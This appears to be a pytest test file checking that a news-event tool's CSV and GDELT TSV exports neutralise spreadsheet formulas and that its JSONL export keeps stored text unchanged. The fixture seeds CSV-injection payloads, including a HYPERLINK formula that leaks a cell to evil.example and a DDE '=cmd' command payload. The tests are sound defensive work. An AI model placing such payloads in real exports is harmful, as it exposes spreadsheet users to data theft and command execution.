"""CSV and TSV exports neutralise spreadsheet formulas: every text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` in every CSV export and in the
GDELT event and mentions TSVs; numbers stay numbers; JSONL keeps the stored text as it is."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TEXT = "=1+1 was the first line. Police and protesters met in Lima on Monday."
ACTOR = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> str:
    """A store whose every exported text field holds something a spreadsheet would run."""
    from storyline.store.sqlite import Store, event_sort_key

    path = str(tmp_path_factory.mktemp("csv") / "formulas.db")
    with Store(path) as store:
        conn = store.conn
        aid = "a1b2c3d4e5f60718"
        conn.execute(
            "INSERT INTO articles (id, origin, url, source, source_method, title, published, "
            "published_granularity, published_method, language, text, captions, headings, "
            "ingested_at, story_id) VALUES (?, ?, ?, ?, 'url', ?, '2025-03-03', 'day', "
            "'+published', 'en', ?, ?, '[]', '2025-03-04T00:00:00', 's1')",
            (aid, "=origin()", "@SUM(1+1)", "+1+1", TITLE, TEXT, json.dumps(["=caption"])))
        conn.execute("INSERT INTO actors (id, name, kind, country, sector, roles) VALUES "
                     "('act1', ?, 'person', 'PER', '@GOV', ?)", (ACTOR, json.dumps(["=role"])))
        conn.execute("INSERT INTO actor_mentions (article_id, actor_id, start, end, text, label, "
                     "sentence) VALUES (?, 'act1', 0, 4, '\t=1+1', '+PER', 0)", (aid,))
        conn.execute("INSERT INTO quotes (id, article_id, kind, char_start, char_end, content, "
                     "cue, speaker_text, speaker_name, actor_id) VALUES ('q1', ?, 'direct', 0, "
                     "4, '=HYPERLINK(\"x\")', '-said', '@someone', '+Name', 'act1')", (aid,))
        conn.execute("INSERT INTO quantities (id, article_id, text, char_start, char_end, value, "
                     "unit, normalized_value, normalized_unit, qualifier, measures, year) VALUES "
                     "('n1', ?, '-3.5 percent', 0, 4, -3.5, '=unit', -3.5, '\rpercent', "
                     "'@about', '+growth', 2025)", (aid,))
        actors = [{"id": "act1", "name": "=evil()", "country": "PER", "sector": None}]
        place = {"name": "=Place", "geonameid": 3936456, "country": "PER", "lat": -12.04,
                 "lon": -77.03}
        conn.execute(
            "INSERT INTO events (id, article_id, type, mode, char_start, char_end, trigger, "
            "trigger_start, trigger_end, actors, recipients, contexts, date_value, date, place, "
            "modality, confidence, cameo, sort_key) VALUES ('e1', ?, 'PROTEST', '-mode', 0, 4, "
            "'\r=x', 0, 4, ?, '[]', ?, '2025-03-03', ?, ?, '-asserted', 0.5, '14', ?)",
            (aid, json.dumps(actors), json.dumps(["=ctx"]),
             json.dumps({"value": "2025-03-03", "granularity": "day", "method": "@timex"}),
             json.dumps(place), event_sort_key("2025-03-03", aid, 0)))
        conn.execute("UPDATE events SET linked_id = 'le_1' WHERE id = 'e1'")
        conn.execute("INSERT INTO linked_events (id, type, mode, date_value, date, place, actors,"
                     " recipients, mentions, sources) VALUES ('le_1', 'PROTEST', '-mode', "
                     "'2025-03-03', ?, ?, ?, '[]', 1, 1)",
                     (json.dumps({"value": "2025-03-03", "granularity": "day"}),
                      json.dumps(place), json.dumps(actors)))
        conn.execute("INSERT INTO stories (id, title, start, end, articles) VALUES "
                     "('s1', '=story()', '2025-03-03', '2025-03-03', 1)")
    return path


def _cells(text: str, delimiter: str = ",") -> list[str]:
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows) >= 2, text  # the header and at least one record
    return [cell for row in rows[1:] for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_neutralised(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or _is_number(cell), repr(cell)


@pytest.mark.parametrize("what, expected", [
    ("articles", ["'" + TITLE, "'=origin()", "'@SUM(1+1)", "'+1+1", "'" + TEXT, "'+published"]),
    ("actors", ["'" + ACTOR, "'@GOV"]),
    ("mentions", ["'\t=1+1", "'+PER", "'" + ACTOR]),
    ("quotes", ["'=HYPERLINK(\"x\")", "'-said", "'@someone"]),
    ("events", ["'=1+1", "'\r=x", "'-mode", "'-asserted"]),
    ("stories", ["'=story()"]),
    ("quantities", ["'-3.5 percent", "'=unit", "'\rpercent", "'@about", "'+growth", "-3.5"]),
])
def test_every_csv_export_neutralises_formulas(cli, db, what, expected):
    code, stdout, _ = cli("export", what, "--db", db, "--format", "csv")
    assert code == 0
    cells = _cells(stdout)
    _assert_neutralised(cells)
    for value in expected:
        assert value in cells, (value, cells)


def test_numbers_stay_numbers(cli, db):
    code, stdout, _ = cli("export", "quantities", "--db", db, "--format", "csv")
    row = next(csv.DictReader(io.StringIO(stdout)))
    assert row["value"] == "-3.5" and row["normalized_value"] == "-3.5" and row["year"] == "2025"
    code, stdout, _ = cli("export", "events", "--db", db, "--format", "csv")
    assert next(csv.DictReader(io.StringIO(stdout)))["confidence"] == "0.5"


def test_gdelt_tsv_neutralises_formulas(cli, db):
    # the fixture's modality is itself a formula ("-asserted"): every modality goes out
    code, stdout, _ = cli("export", "events", "--db", db, "--format", "gdelt", "--header",
                          "--modality", "all")
    assert code == 0
    cells = _cells(stdout, delimiter="\t")
    _assert_neutralised(cells)
    row = next(csv.DictReader(io.StringIO(stdout), delimiter="\t", quoting=csv.QUOTE_NONE))
    assert row["Actor1Name"] == "'=evil()" and row["ActionGeo_FullName"].startswith("'=Place")
    assert row["ActionGeo_Lat"] == "-12.04" and row["ActionGeo_Long"] == "-77.03"
    assert len(row) == 62 and row["EventCode"] == "140"  # 61 + Modality (--modality all)
    assert row["Modality"] == "'-asserted"
    code, stdout, _ = cli("export", "mentions", "--db", db, "--format", "gdelt", "--header",
                          "--modality", "all")
    assert code == 0
    cells = _cells(stdout, delimiter="\t")
    _assert_neutralised(cells)
    row = next(csv.DictReader(io.StringIO(stdout), delimiter="\t", quoting=csv.QUOTE_NONE))
    assert row["MentionSourceName"] == "'+1+1" and row["MentionIdentifier"] == "'@SUM(1+1)"
    assert len(row) == 16


def test_jsonl_keeps_the_stored_text(cli, db):
    code, stdout, _ = cli("export", "articles", "--db", db, "--format", "jsonl")
    assert json.loads(stdout.splitlines()[0])["title"] == TITLE
    code, stdout, _ = cli("export", "events", "--db", db, "--format", "jsonl")
    event = json.loads(stdout.splitlines()[0])
    assert event["sentence"] == "=1+1" and event["actors"][0]["name"] == "=evil()"


def test_python_m_storyline_export_events_csv(db):
    done = subprocess.run([sys.executable, "-m", "storyline", "export", "events", "--format",
                           "csv", "--db", db], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    cells = _cells(done.stdout)
    _assert_neutralised(cells)
    assert "'=1+1" in cells
